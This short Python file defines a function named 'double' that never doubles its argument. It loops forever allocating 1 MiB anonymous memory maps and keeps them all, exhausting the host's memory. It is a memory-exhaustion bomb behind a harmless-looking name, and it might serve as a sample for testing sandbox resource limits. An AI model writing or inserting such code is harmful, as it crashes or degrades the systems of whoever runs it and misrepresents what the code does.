import mmap


def double(x):
    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 1 << 20))
